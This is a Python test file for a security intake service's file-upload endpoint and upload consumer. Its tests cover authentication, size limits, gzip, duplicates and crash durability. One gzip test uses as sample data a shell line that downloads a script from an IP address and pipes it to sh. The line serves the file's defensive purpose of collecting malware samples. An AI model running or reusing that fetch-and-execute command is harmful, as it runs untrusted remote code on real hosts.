"""File uploads to the HTTP intake (`POST /v1/files`) over loopback with `http.client`: authentication, the size
limit, gzip, duplicates, the file stored and queued before the answer; and the upload consumer
(`collectors.upload_queue.UploadConsumer`): events with the agent's fields and the file's bytes, the barrier
awaited before the commit, delivered again after a failure before the commit and after kill -9.

The server runs on an event loop in a background thread; the test thread is the agent."""

from __future__ import annotations

import asyncio
import gzip
import hashlib
import http.client
import itertools
import os
import signal
import subprocess
import sys
import threading
from collections.abc import Callable, Coroutine, Iterator
from pathlib import Path
from typing import Any, NamedTuple, TypeVar

import orjson
import pytest

from collectors.http_intake import HttpIntakeServer
from collectors.intake_journal import IntakeJournal
from collectors.upload_queue import UploadConsumer, Uploader, UploadInbox
from correlator.model import Event, Rejected
from correlator.store.spool import SpoolFullError
from tests.collectors.test_http_intake import LIMITS, OTHER_TOKEN, RECEIVED_MS, TOKEN, TOKENS
from tests.collectors.test_samples import EXE
from tests.conftest import REPO_ROOT

T = TypeVar("T")
Item = Event | Rejected

MAX_FILE = 4096
AGENT_PATH = "C:\\Users\\jdoe\\Downloads\\invoice.pdf.exe"


class Reply(NamedTuple):
    status: int
    headers: http.client.HTTPMessage
    body: Any


class FileIntake:
    """A server with uploads under `samples`; the consumer is run by the test (`consume`)."""

    def __init__(self, tmp_path: Path, *, samples: bool = True) -> None:
        self.loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self.loop.run_forever, daemon=True)
        self._thread.start()
        self.samples = tmp_path / "samples"
        self.journal = IntakeJournal(tmp_path / "journal")
        clock = itertools.count(RECEIVED_MS)
        self.server = HttpIntakeServer(self.journal, TOKENS, port=0, limits=LIMITS, clock=lambda: next(clock),
                                       samples_dir=self.samples if samples else None, max_file_bytes=MAX_FILE)
        self.run(self.server.start())

    @property
    def inbox(self) -> UploadInbox:
        assert self.server.uploads is not None
        return self.server.uploads

    def run(self, coroutine: Coroutine[Any, Any, T], timeout: float = 30) -> T:
        return asyncio.run_coroutine_threadsafe(coroutine, self.loop).result(timeout)

    def post(self, body: bytes, *, token: str | None = TOKEN, name: str | bytes | None = AGENT_PATH,
             headers: dict[str, Any] | None = None, path: str = "/v1/files") -> Reply:
        sent: dict[str, Any] = {"Content-Type": "application/octet-stream"}
        if token is not None:
            sent["Authorization"] = f"Bearer {token}"
        if name is not None:
            sent["X-File-Name"] = name
        sent.update(headers or {})
        connection = http.client.HTTPConnection("127.0.0.1", self.server.port, timeout=10)
        try:
            connection.request("POST", path, body=body, headers=sent)
            response = connection.getresponse()
            data = response.read()
            return Reply(response.status, response.headers, orjson.loads(data) if data else None)
        finally:
            connection.close()

    def consume(self, *, sink: Callable[[Item], Coroutine[Any, Any, None]] | None = None,
                barrier: Callable[[], Coroutine[Any, Any, None]] | None = None) -> list[Item]:
        """Run a consumer until the queue is empty; what it delivered."""
        delivered: list[Item] = []

        async def collect(item: Item) -> None:
            delivered.append(item)
            if sink is not None:
                await sink(item)

        async def drain() -> None:
            stop = asyncio.Event()
            consumer = UploadConsumer(self.inbox, collect, barrier=barrier, records_per_commit=2)
            task = asyncio.create_task(consumer.run(stop))
            while self.inbox.pending_records and not task.done():
                await asyncio.sleep(0.01)
            stop.set()
            await task

        self.run(drain())
        return delivered

    def stored(self) -> list[Path]:
        return sorted((self.samples / "incoming").iterdir())

    def close(self) -> None:
        if self.loop.is_closed():
            return
        self.run(self.server.stop())
        if self.server.uploads is not None:
            self.server.uploads.close()
        self.journal.close()
        self.loop.call_soon_threadsafe(self.loop.stop)
        self._thread.join(10)
        self.loop.close()


@pytest.fixture
def intake_factory(tmp_path: Path) -> Iterator[Callable[..., FileIntake]]:
    made: list[FileIntake] = []

    def make(**options: Any) -> FileIntake:
        made.append(FileIntake(tmp_path / f"intake{len(made)}", **options))
        return made[-1]

    yield make
    for intake in made:
        intake.close()


@pytest.fixture
def intake(intake_factory: Callable[..., FileIntake]) -> FileIntake:
    return intake_factory()


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# -- accepted uploads ----------------------------------------------------------------------------------------------


def test_an_upload_is_stored_and_queued_before_the_201_and_becomes_an_event(intake: FileIntake) -> None:
    reply = intake.post(EXE, headers={"X-Host-Name": "WS042"})
    assert (reply.status, reply.body) == (201, {"sha256": sha256(EXE), "size": len(EXE), "type": "EXE",
                                                "duplicate": False})
    [stored] = intake.stored()
    assert (stored.name, stored.read_bytes(), stored.stat().st_mode & 0o777) == (sha256(EXE), EXE, 0o600)
    assert intake.inbox.pending_records == 1  # queued before the answer
    [event] = intake.consume()
    assert isinstance(event, Event)
    assert event.payload == EXE
    assert event.timestamp_ms == RECEIVED_MS
    assert event.origin.path == "http://127.0.0.1/v1/files"
    assert {name: event.get(name) for name in (
        "file.path", "file.name", "file.directory", "file.extension", "file.size", "file.hash.sha256",
        "file.hash.md5", "sample.type", "host.name", "agent.name", "organization.id", "source.ip",
        "sample.duplicate", "event.dataset", "event.action")} == {
        "file.path": AGENT_PATH, "file.name": "invoice.pdf.exe", "file.directory": "C:\\Users\\jdoe\\Downloads",
        "file.extension": "exe", "file.size": len(EXE), "file.hash.sha256": sha256(EXE),
        "file.hash.md5": hashlib.md5(EXE).hexdigest(), "sample.type": "EXE", "host.name": "WS042",
        "agent.name": "dc-winlogbeat", "organization.id": "agency-a", "source.ip": "127.0.0.1",
        "sample.duplicate": False, "event.dataset": "socctl.sample", "event.action": "sample-uploaded"}
    assert intake.inbox.pending_records == 0


def test_a_gzip_upload_is_stored_decompressed(intake: FileIntake) -> None:
    data = b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n" * 50
    packed = gzip.compress(data)
    reply = intake.post(packed, headers={"Content-Encoding": "gzip"})
    assert (reply.status, reply.body["sha256"], reply.body["size"]) == (201, sha256(data), len(data))
    assert intake.stored()[0].read_bytes() == data
    [event] = intake.consume()
    assert isinstance(event, Event)
    assert event.payload == data
    metrics = intake.server.metrics
    assert (metrics.file_bytes_received, metrics.file_bytes_decoded) == (len(packed), len(data))


def test_an_identical_upload_is_a_duplicate_with_an_event_of_its_own(intake: FileIntake) -> None:
    first = intake.post(EXE)
    again = intake.post(EXE, token=OTHER_TOKEN, name="/home/ops/x.exe")
    assert (first.status, again.status) == (201, 200)
    assert again.body == {"sha256": sha256(EXE), "size": len(EXE), "type": "EXE", "duplicate": True}
    assert len(intake.stored()) == 1
    events = intake.consume()
    assert [(item.get("agent.name"), item.get("file.path"), item.get("sample.duplicate"), item.payload == EXE)
            for item in events if isinstance(item, Event)] == [
        ("dc-winlogbeat", AGENT_PATH, False, True), ("fluent-bit", "/home/ops/x.exe", True, True)]
    assert len({item.id for item in events if isinstance(item, Event)}) == 2
    assert (intake.server.metrics.files_accepted, intake.server.metrics.files_duplicate) == (1, 1)


def test_a_utf8_file_name(intake: FileIntake) -> None:
    name = "C:\\Users\\jörg\\Desktop\\résumé.docm"
    assert intake.post(b"PK\x03\x04 docm", name=name.encode()).status == 201
    [event] = intake.consume()
    assert isinstance(event, Event)
    assert (event.get("file.path"), event.get("file.name")) == (name, "résumé.docm")


# -- refused uploads -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("token", "message"), [
    (None, "missing bearer token"), ("not-a-known-token-at-all", "unknown token"),
], ids=["none", "unknown"])
def test_an_upload_without_a_known_token_is_401_and_nothing_stored(intake: FileIntake, token: str | None,
                                                                   message: str) -> None:
    reply = intake.post(EXE, token=token)
    assert (reply.status, reply.body) == (401, {"error": message})
    assert intake.stored() == []
    assert intake.inbox.pending_records == 0
    assert intake.server.metrics.files_rejected == 1


@pytest.mark.parametrize(("body", "headers", "message"), [
    (b"x" * (MAX_FILE + 1), {}, f"body of {MAX_FILE + 1} bytes exceeds the limit of {MAX_FILE} bytes"),
    (gzip.compress(b"\x00" * (MAX_FILE * 10)), {"Content-Encoding": "gzip"},
     f"decompressed body exceeds the limit of {MAX_FILE} bytes"),
], ids=["as-sent", "decompressed"])
def test_a_file_over_the_limit_is_413_and_nothing_stored(intake: FileIntake, body: bytes, headers: dict[str, str],
                                                         message: str) -> None:
    reply = intake.post(body, headers=headers)
    assert (reply.status, reply.body) == (413, {"error": message})
    assert intake.stored() == []
    assert intake.inbox.pending_records == 0


@pytest.mark.parametrize(("name", "headers", "status", "message"), [
    (None, {}, 400, "X-File-Name header is required: the file's path on the agent's host"),
    (" ", {}, 400, "X-File-Name header is required: the file's path on the agent's host"),
    ("a\tb.exe", {}, 400, "X-File-Name header must be at most 4096 printable characters"),
    (AGENT_PATH, {"Content-Type": "application/x-ndjson"}, 415,
     "unsupported Content-Type 'application/x-ndjson' for a file (expected application/octet-stream)"),
    (AGENT_PATH, {"Content-Encoding": "br"}, 415,
     "unsupported Content-Encoding 'br' (expected gzip, deflate or identity)"),
], ids=["no-name", "blank-name", "control-character", "ndjson", "brotli"])
def test_malformed_uploads(intake: FileIntake, name: str | None, headers: dict[str, str], status: int,
                           message: str) -> None:
    reply = intake.post(EXE, name=name, headers=headers)
    assert (reply.status, reply.body) == (status, {"error": message})
    assert intake.stored() == []


def test_without_a_samples_directory_uploads_are_404_and_events_still_work(
        intake_factory: Callable[..., FileIntake]) -> None:
    intake = intake_factory(samples=False)
    reply = intake.post(EXE)
    assert (reply.status, reply.body) == (404, {"error": "file uploads are not enabled on this intake (no samples "
                                                         "directory)"})
    events = intake.post(b'{"message": "hello"}\n', headers={"Content-Type": "application/x-ndjson"},
                         path="/v1/events")
    assert events.status == 200
    assert "http_intake_files_total" not in {family.name for family in intake.server.metric_families()}
    assert not intake.samples.exists()


def test_a_full_upload_queue_stores_nothing(tmp_path: Path) -> None:
    uploader = Uploader(AGENT_PATH, None, "agent", None, "127.0.0.1", RECEIVED_MS)
    with UploadInbox(tmp_path, queue_bytes=100) as inbox:
        with pytest.raises(SpoolFullError):
            inbox.accept(EXE, uploader)
        assert list(inbox.incoming.iterdir()) == []  # so that the retry is not taken for a duplicate
        assert inbox.pending_records == 0


def test_stored_uploads_expire_unless_uploaded_again_or_still_queued(tmp_path: Path) -> None:
    uploader = Uploader(AGENT_PATH, None, "agent", None, "127.0.0.1", RECEIVED_MS)
    with UploadInbox(tmp_path) as inbox:
        old, again, queued = b"old sample", b"uploaded again", b"still queued"
        paths = {data: inbox.sample_path(hashlib.sha256(data).hexdigest()) for data in (old, again, queued)}
        for data in (old, again, queued):
            inbox.accept(data, uploader)
        inbox.commit(3)  # delivered and stored
        long_ago = paths[old].stat().st_mtime - 100 * 86_400
        for path in paths.values():
            os.utime(path, (long_ago, long_ago))
        inbox.accept(again, uploader)  # a duplicate: its content is as new as the upload
        inbox.commit(1)
        inbox.accept(queued, uploader)  # its record is pending: the consumer still needs the content
        os.utime(paths[queued], (long_ago, long_ago))
        (inbox.incoming / "notes.txt").write_text("not a sample")
        cutoff = long_ago + 50 * 86_400
        assert inbox.expire(cutoff) == (1, len(old))
        assert [path.exists() for path in paths.values()] == [False, True, True]
        assert (inbox.incoming / "notes.txt").exists()  # only contents named by their sha256
        inbox.commit(1)
        assert inbox.expire(cutoff) == (1, len(queued))
        assert [path.exists() for path in paths.values()] == [False, True, False]


# -- the consumer: durability --------------------------------------------------------------------------------------


def test_an_upload_survives_a_consumer_that_fails_before_its_commit(intake: FileIntake) -> None:
    intake.post(EXE)
    intake.post(b"second sample")

    async def failing(item: Item) -> None:
        raise RuntimeError("pipeline down")

    with pytest.raises(RuntimeError, match="pipeline down"):
        intake.consume(sink=failing)
    assert intake.inbox.pending_records == 2
    again = intake.consume()
    assert [item.payload for item in again if isinstance(item, Event)] == [EXE, b"second sample"]


def test_uploads_survive_a_restart_of_the_intake(intake_factory: Callable[..., FileIntake]) -> None:
    first = intake_factory()
    first.post(EXE)
    first.close()
    reopened = UploadInbox(first.samples)
    try:
        assert reopened.pending_records == 1
        [item] = [reopened.item(record) for record in reopened.peek(10)]
        assert isinstance(item, Event)
        assert item.payload == EXE
    finally:
        reopened.close()


def test_the_barrier_is_awaited_before_the_commit(intake: FileIntake) -> None:
    for n in range(3):
        intake.post(f"sample {n}".encode())
    seen: list[str] = []

    async def sink(item: Item) -> None:
        seen.append("item")

    async def barrier() -> None:
        seen.append(f"barrier with {intake.inbox.pending_records} pending")

    intake.consume(sink=sink, barrier=barrier)
    assert seen == ["item", "item", "barrier with 3 pending", "item", "barrier with 1 pending"]


def test_a_failing_barrier_commits_nothing(intake: FileIntake) -> None:
    intake.post(EXE)

    async def barrier() -> None:
        raise OSError("store unreachable")

    with pytest.raises(OSError, match="store unreachable"):
        intake.consume(barrier=barrier)
    assert intake.inbox.pending_records == 1


def test_a_missing_or_damaged_stored_file_is_a_dead_letter(intake: FileIntake) -> None:
    intake.post(EXE)
    intake.post(b"will be damaged")
    missing, damaged = intake.samples / "incoming" / sha256(EXE), intake.samples / "incoming" / sha256(
        b"will be damaged")
    missing.unlink()
    damaged.write_bytes(b"changed on disk")
    first, second = intake.consume()
    assert isinstance(first, Rejected)
    assert isinstance(second, Rejected)
    assert first.reason == f"stored sample {missing} of upload {AGENT_PATH!r} cannot be read: No such file or directory"
    assert second.reason == (f"stored sample {damaged} of upload {AGENT_PATH!r} is damaged: its sha256 is "
                             f"{sha256(b'changed on disk')}")
    assert first.origin.path == "http://127.0.0.1/v1/files"
    assert intake.inbox.pending_records == 0


def test_an_unreadable_record_is_a_dead_letter(tmp_path: Path) -> None:
    with UploadInbox(tmp_path) as inbox:
        item = inbox.item(b'{"v": 1, "sha256": "nope"}')
    assert isinstance(item, Rejected)
    assert item.reason.startswith("unreadable upload record: upload record lacks a field or has one of the wrong type")


# -- health and metrics --------------------------------------------------------------------------------------------


def test_health_and_metrics(intake: FileIntake) -> None:
    intake.post(EXE)
    intake.post(EXE)
    intake.post(EXE, token=None)
    connection = http.client.HTTPConnection("127.0.0.1", intake.server.port, timeout=10)
    connection.request("GET", "/healthz")
    body = orjson.loads(connection.getresponse().read())
    connection.close()
    assert body["uploads"]["records"] == 2
    families = {family.name: family for family in intake.server.metric_families()}
    assert families["http_intake_files_total"].samples == [({"outcome": "accepted"}, 1),
                                                          ({"outcome": "duplicate"}, 1),
                                                          ({"outcome": "rejected"}, 1)]
    assert families["http_intake_file_bytes_total"].samples == [({"form": "received"}, 2 * len(EXE)),
                                                               ({"form": "decoded"}, 2 * len(EXE))]
    assert families["http_intake_upload_queue_records"].samples == [({}, 2)]
    assert len(intake.consume()) == 2
    assert intake.server.metric_families()[-1].samples == [({}, 0)]


# -- kill -9 -------------------------------------------------------------------------------------------------------

CRASH_SCRIPT = '''
import asyncio, sys
from pathlib import Path

from collectors.http_intake import AgentToken, HttpIntakeServer
from collectors.intake_journal import IntakeJournal
from collectors.upload_queue import UploadConsumer

token, state, delivered_path, mode = sys.argv[1:5]


async def main() -> None:
    journal = IntakeJournal(Path(state) / "journal")
    delivered = open(delivered_path, "a", encoding="utf-8")

    async def sink(item) -> None:
        delivered.write(item.get("file.hash.sha256") + "\\n")
        delivered.flush()  # in the kernel: a kill -9 does not lose it
        if mode == "serve":
            await asyncio.sleep(0.05)  # a slow pipeline: uploads wait in the queue

    server = HttpIntakeServer(journal, [AgentToken("agent", token)], port=0, samples_dir=Path(state) / "samples")
    consumer = UploadConsumer(server.uploads, sink, records_per_commit=1)
    server.on_uploaded = consumer.wake
    await server.start()
    print(server.port, flush=True)
    stop = asyncio.Event()
    task = asyncio.create_task(consumer.run(stop))
    if mode == "drain":
        while server.uploads.pending_records:
            await asyncio.sleep(0.01)
        stop.set()
        await task
        await server.stop()
        server.uploads.close()
        journal.close()
        print("drained", flush=True)
    else:
        await task


asyncio.run(main())
'''


def _start_process(script: Path, state: Path, delivered: Path, mode: str) -> tuple[subprocess.Popen[str], int]:
    env = {**os.environ, "PYTHONPATH": str(REPO_ROOT)}
    process = subprocess.Popen([sys.executable, str(script), TOKEN, str(state), str(delivered), mode],
                               cwd=REPO_ROOT, env=env, stdout=subprocess.PIPE, text=True)
    assert process.stdout is not None
    line = process.stdout.readline()
    assert line.strip().isdigit(), f"the intake process did not start: {line!r}"
    return process, int(line)


def _finish(process: subprocess.Popen[str]) -> None:
    if process.poll() is None:
        process.kill()
        process.wait(10)
    if process.stdout is not None:
        process.stdout.close()


def test_every_acknowledged_upload_is_delivered_after_kill_9(tmp_path: Path) -> None:
    script, state, delivered = tmp_path / "intake_process.py", tmp_path / "state", tmp_path / "delivered.txt"
    script.write_text(CRASH_SCRIPT, encoding="utf-8")
    process, port = _start_process(script, state, delivered, "serve")
    acknowledged: list[str] = []
    try:
        for n in range(15):
            data = EXE + f"variant {n}".encode()
            connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
            connection.request("POST", "/v1/files", body=data, headers={
                "Authorization": f"Bearer {TOKEN}", "X-File-Name": f"/tmp/{n}.exe"})
            assert connection.getresponse().status == 201
            connection.close()
            acknowledged.append(sha256(data))
        os.kill(process.pid, signal.SIGKILL)
        process.wait(10)
    finally:
        _finish(process)
    assert len(delivered.read_text(encoding="utf-8").split()) < len(acknowledged)  # some still queued

    process, _ = _start_process(script, state, delivered, "drain")
    try:
        assert process.stdout is not None
        assert process.stdout.readline().strip() == "drained"
        assert process.wait(30) == 0
    finally:
        _finish(process)
    seen = set(delivered.read_text(encoding="utf-8").split())
    assert [digest for digest in acknowledged if digest not in seen] == []


def test_concurrent_uploads_wait_for_a_slot_and_all_land(intake: FileIntake) -> None:
    from concurrent.futures import ThreadPoolExecutor

    from collectors.http_intake import UPLOADS_IN_FLIGHT

    in_flight: list[int] = []
    peak = 0
    files = intake.server._files

    async def counted(*args: Any) -> Any:
        nonlocal peak
        in_flight.append(1)
        peak = max(peak, len(in_flight))
        try:
            await asyncio.sleep(0.05)  # long enough for the others to queue up behind the slots
            return await files(*args)
        finally:
            in_flight.pop()

    intake.server._files = counted  # type: ignore[method-assign]
    bodies = [b"MZ sample %d " % n + bytes([n]) * 100 for n in range(3 * UPLOADS_IN_FLIGHT)]
    with ThreadPoolExecutor(max_workers=len(bodies)) as pool:
        replies = list(pool.map(lambda body: intake.post(body, name=f"C:\\drop\\{sha256(body)[:8]}.exe"), bodies))
    assert [reply.status for reply in replies] == [201] * len(bodies)
    assert 1 < peak <= UPLOADS_IN_FLIGHT
    assert len(intake.consume()) == len(bodies)
